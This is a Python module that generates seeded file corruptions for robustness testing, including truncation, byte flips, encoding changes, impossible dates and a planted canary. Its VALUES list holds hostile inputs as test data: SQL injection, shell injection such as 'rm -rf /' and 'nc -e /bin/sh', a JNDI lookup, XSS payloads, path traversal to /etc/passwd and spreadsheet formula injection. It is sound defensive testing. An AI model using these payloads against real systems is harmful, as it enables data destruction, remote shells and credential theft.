"""Accidents and attacks on any file, drawn from a seeded generator: the same seed makes the same bytes."""

import json
import re
from base64 import b64encode
from collections.abc import Callable, Mapping
from html import escape
from random import Random

Change = Callable[[bytes, Random, bytes], bytes]
"""A change to a file; the last argument is the canary it may plant."""

MOST = 400_000
"""Nothing but the absurdly large is made longer than this."""

PNG = b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
JPEG = b"/9j/4AAQSkZJRgABAQEAYABgAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcp"
IMAGES = (PNG, JPEG)

DATES = [
    *(b"0000-00-00", b"0000-01-01", b"0001-01-01", b"9999-12-31", b"10000-01-01", b"-2026-01-01"),
    *(b"2023-02-29", b"2024-02-29", b"1900-02-29", b"2026-13-01", b"2026-00-10", b"2026-01-00", b"2026-1-1"),
    *(b"3026-11-20", b"2030-03-31", b"1899-12-31", b"1066-10-14", b"1970-01-01", b"2038-01-19T03:14:08Z"),
    *(b"00/00/0000", b"29/02/2023", b"31/04/2024", b"01/01/0001", b"1/1/26", b"12/31/2026", b"31.12.2026"),
    *(b"00000000", b"20260230", b"99991231235959", b"00010101000000", b"20261120256199", b"202611"),
    *(b"2026-11-20T24:00:00Z", b"2026-06-30T23:59:60Z", b"2026-11-20T10:00:00+99:99", b"2026-11-20T10:00"),
    *(
        b"9999-12-31T23:59:59-14:00",
        b"0001-01-01T00:00:00+14:00",
        b"2026-03-29T01:30:00",
        b"2026-10-25T01:30",
    ),
    *(
        b"2026-11-20T10:00:00.999999999999Z",
        b"1e9",
        b"NaN",
        b"now",
        b"2026-W01-1",
        b"2026-366",
        b"12012345678",
    ),
    *(
        "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661".encode(),
        "\uff12\uff10\uff12\uff16-\uff10\uff11-\uff10\uff11".encode(),
        "2026\u201101\u201101".encode(),
        b"2026-11-20\x00",
    ),
]

VALUES = [
    *(b"'; DROP TABLE entries;--", b"' OR '1'='1", b"1; ATTACH DATABASE 'x' AS y", b"%27%20OR%201=1"),
    *(b"$(rm -rf /)", b"`id`", b"; cat /etc/passwd", b"| nc -e /bin/sh", b"${jndi:ldap://x/a}", b"{{7*7}}"),
    *(b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b"javascript:alert(1)", b"</textarea>"),
    *(
        b"<svg onload=alert(1)>",
        b"&lt;b&gt;",
        b"&amp;",
        b"&#0;",
        b"&#xD800;",
        b"&#x1F;",
        b"]]>",
        b"<![CDATA[",
    ),
    *(b"../../../../etc/passwd", b"C:\\Windows\\System32", b"file:///etc/passwd", b"http://localhost:22/"),
    *(b"=cmd|' /C calc'!A0", b"@SUM(1+1)", b"+1+1", b"-1", b"%s%s%n", b"{0.__class__}", b"%(password)s"),
    *(
        b"\x00",
        b"\x01\x02\x07\x08\x1b[31m",
        b"\x7f",
        b"\x85",
        b"\r",
        b"\n",
        b"\r\n",
        b"\t",
        b"\x0b\x1c\r",
        b"\x1a",
    ),
    *("\u202egnihtemos".encode(), "\u2066x\u2069".encode(), "\u200b\u200d\ufeff".encode(), b"\xe2\x80\xa8"),
    "a\u0301\u0302\u0303".encode() * 50,
    *(
        b"\xed\xa0\x80",
        b"\xed\xb0\x80\xed\xa0\x80",
        b"\\ud800",
        b"\\udc00\\ud800",
        b"\\u0000",
        b"\\",
        b"\\x41",
    ),
    *(b"\xff\xfe", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"\xe9", b"\x80\x81"),
    *(b"null", b"true", b"false", b"[]", b"{}", b'""', b"0", b"-0", b"1e400", b"-1e999", b"9" * 400, b"0x10"),
    *(b"1.7976931348623157e309", b"9" * 5000, b"Infinity", b"-Infinity", b"NaN", b"None", b"undefined"),
    *(
        b"",
        b" ",
        b"\xc2\xa0",
        b'"',
        b"'",
        b",",
        b"|",
        b"^",
        b"~",
        b"&",
        b"|||||",
        b"^^^^",
        b"~" * 50,
        b"[",
        b"{",
    ),
    *(b"\\E\\", b"\\X0D0A\\", b"\\.br\\", b"\\F\\", b"MSH|^~\\&|", b"\rPID|1||x", b"A" * 21_000, b"a " * 400),
    *(b"9999999999", b"0000000000", b"9434765919", b"9449305552", b"9990000018", b"A" * 13, b"Z999999999999"),
    *(
        b"data:image/png;base64," + PNG,
        PNG,
        JPEG,
        b"\xff\xd8\xff\xe0\x00\x10JFIF",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
    ),
]

_VALUE = re.compile(rb"(?<=[\":|,>\n])[^\":|,<>{}\[\]\r\n]{1,80}(?=[\"|,<\r\n])")
_JSON_TEXT = re.compile(rb'(?<=: ")[^"\\]*(?=")|(?<=:")[^"\\]*(?=")|(?<=\[")[^"\\]*(?=")')
_XML_TEXT = re.compile(rb'(?<=>)[^<>\s][^<>]*(?=<)|(?<==")[^"<>]*(?=")')
_NAME = re.compile(rb'(?<=")\w{2,40}(?="\s*:)|(?<=<)\w{2,40}(?=[ >])')
_DATE = re.compile(
    rb"\d{4}-\d\d-\d\d(?:T[\d:.]*(?:Z|[+-]\d\d:\d\d)?)?|\d\d/\d\d/\d{4}|(?<!\d)(?:19|20)\d{6}(?:\d{4,6})?(?!\d)"
)


def cut_off(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Ends too soon, or begins too late."""
    at = r.randint(0, len(raw))
    return raw[at:] if r.random() < 0.2 else raw[:at]


def flipped(raw: bytes, r: Random, canary: bytes) -> bytes:
    """A few bytes become others."""
    data = bytearray(raw)
    for _ in range(r.randint(1, 12) if data else 0):
        data[r.randrange(len(data))] = r.randrange(256)
    return bytes(data)


def spliced(raw: bytes, r: Random, canary: bytes) -> bytes:
    """A piece is moved, said twice, turned round or left out."""
    start = r.randint(0, len(raw))
    end = min(len(raw), start + r.choice([1, 8, 60, 400, 3000]))
    piece, rest = raw[start:end], raw[:start] + raw[end:]
    how, to = r.randrange(4), r.randint(0, len(rest))
    if how == 0:
        return rest
    if how == 1:
        return rest[:to] + piece + rest[to:]
    if how == 2:
        return raw[:end] + piece * r.randint(1, 4) + raw[end:]
    return raw[:start] + piece[::-1] + raw[end:]


def inserted(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Something hostile, or the canary, anywhere at all."""
    at = r.randint(0, len(raw))
    return raw[:at] + _nasty(r, canary) + raw[at:]


def value(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Hostile values where values stand, so that the file's form survives."""
    for _ in range(r.randint(1, 3)):
        raw = _in_value(raw, r, _nasty(r, canary))
    return raw


def planted(raw: bytes, r: Random, canary: bytes) -> bytes:
    """The canary as a value, whole, or at the end of one."""
    return _in_value(raw, r, canary if r.random() < 0.7 else canary * r.choice([3, 40]))


def renamed(raw: bytes, r: Random, canary: bytes) -> bytes:
    """The canary as the name of a field, an element or a column."""
    return _in_place(_NAME, raw, r, canary)


def dated(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Days and times that never were, or will not be."""
    for _ in range(r.randint(1, 4)):
        raw = _in_place(_DATE, raw, r, r.choice(DATES))
    return raw


def recoded(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Said in another encoding than the format's, or with marks and noughts that do not belong."""
    return r.choice(_RECODINGS)(raw, r)


def lined(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Other line ends, blank lines, and a file that says everything twice."""
    ends = [b"\n", b"\r\n", b"\r", b"\n\n\r", b"", b"\x0b", b"\xe2\x80\xa8"]
    data = r.choice(ends).join(raw.replace(b"\r\n", b"\n").replace(b"\r", b"\n").split(b"\n"))
    return data * r.choice([1, 1, 2]) if len(data) < MOST else data


def noise(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Bytes by chance, after a beginning that may be right."""
    return raw[: r.choice([0, 0, 1, 4, 40])] + r.randbytes(r.choice([0, 1, 3, 50, 4000]))


def picture(raw: bytes, r: Random, canary: bytes) -> bytes:
    """A picture where a value stands, or instead of the file."""
    if r.random() < 0.2:
        return r.choice([b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"\0\0\0\x18ftypmp42"]) + raw
    return _in_value(raw, r, r.choice(IMAGES))


def swollen(raw: bytes, r: Random, canary: bytes) -> bytes:
    """Some megabytes: one value, white space, the same again and again, or no end of line."""
    size = r.choice([1_100_000, 2_000_000, 4_000_000, 9_000_000])
    how = r.randrange(5)
    if how == 0:
        return _in_value(raw, r, b"A" * size)
    if how == 1:
        return raw + b" " * size
    if how == 2:
        return (raw * (size // (2 * max(1, len(raw))) + 1))[: size // 2]
    if how == 3:
        return raw.rstrip() + b"\n" * (size // 4) + raw
    return _in_value(raw, r, canary * (size // (8 * len(canary))))


CHANGES: Mapping[str, tuple[Change, int]] = {
    "cut off": (cut_off, 3),
    "bytes flipped": (flipped, 5),
    "spliced": (spliced, 5),
    "something inserted": (inserted, 5),
    "hostile value": (value, 14),
    "canary planted": (planted, 12),
    "field renamed": (renamed, 5),
    "absurd date": (dated, 12),
    "wrong encoding": (recoded, 5),
    "line ends": (lined, 3),
    "noise": (noise, 2),
    "picture": (picture, 3),
}
"""Every change and how often it is drawn."""


def _nasty(r: Random, canary: bytes) -> bytes:
    drawn = r.choice(VALUES) if r.random() < 0.8 else r.choice(DATES)
    return drawn + canary if r.random() < 0.3 else drawn


def _in_value(raw: bytes, r: Random, new: bytes) -> bytes:
    """Another thing in place of a value, as the file's syntax has them; now and then of anything at all."""
    start = raw.lstrip()[:1]
    pattern = _XML_TEXT if start == b"<" else _JSON_TEXT if start in (b"{", b"[") else _VALUE
    return _in_place(_VALUE if r.random() < 0.1 else pattern, raw, r, new)


def _in_place(pattern: re.Pattern[bytes], raw: bytes, r: Random, new: bytes) -> bytes:
    """Another thing in place of one match; where there is none, it is put in anywhere."""
    found = pattern.search(raw, r.randint(0, len(raw))) or pattern.search(raw)
    if found is None:
        at = r.randint(0, len(raw))
        return raw[:at] + new + raw[at:]
    return raw[: found.start()] + _fitting(raw, r, new) + raw[found.end() :]


def _fitting(raw: bytes, r: Random, new: bytes) -> bytes:
    """Mostly written as the file's syntax asks, so that it reaches those who read what is said."""
    if r.random() < 0.3:
        return new
    text, start = new.decode("utf-8", "replace"), raw.lstrip()[:1]
    if start in (b"{", b"["):
        return json.dumps(text)[1:-1].encode()
    return escape(text).encode() if start == b"<" else new


_DECLARED = re.compile(rb'encoding="[^"]*"')
_NAMED = [
    b"utf-16",
    b"utf-7",
    b"iso-8859-1",
    b"windows-1252",
    b"shift_jis",
    b"EBCDIC-CP-US",
    b"x",
    b"",
    b"utf-8",
]


def _noughts(raw: bytes, r: Random) -> bytes:
    at = r.randint(0, len(raw))
    return raw[:at] + b"\0" * r.randint(1, 9) + raw[at:]


def _wholly_recoded(raw: bytes, r: Random) -> bytes:
    encodings = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"]
    return raw.decode("utf-8", "replace").encode(r.choice(encodings), "replace")


_RECODINGS: tuple[Callable[[bytes, Random], bytes], ...] = (
    lambda raw, r: b"\xef\xbb\xbf" * r.randint(1, 3) + raw,
    lambda raw, r: raw.replace(b"a", r.choice([b"\xe9", b"\xa0", b"\x92"]), r.randint(1, 9)),
    _noughts,
    lambda raw, _: b"\0".join(raw[i : i + 1] for i in range(len(raw))),
    lambda raw, r: r.choice([b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0"]) + raw,
    lambda raw, _: b64encode(raw),
    lambda raw, r: _DECLARED.sub(b'encoding="' + r.choice(_NAMED) + b'"', raw, count=1),
    _wholly_recoded,
    _wholly_recoded,
)
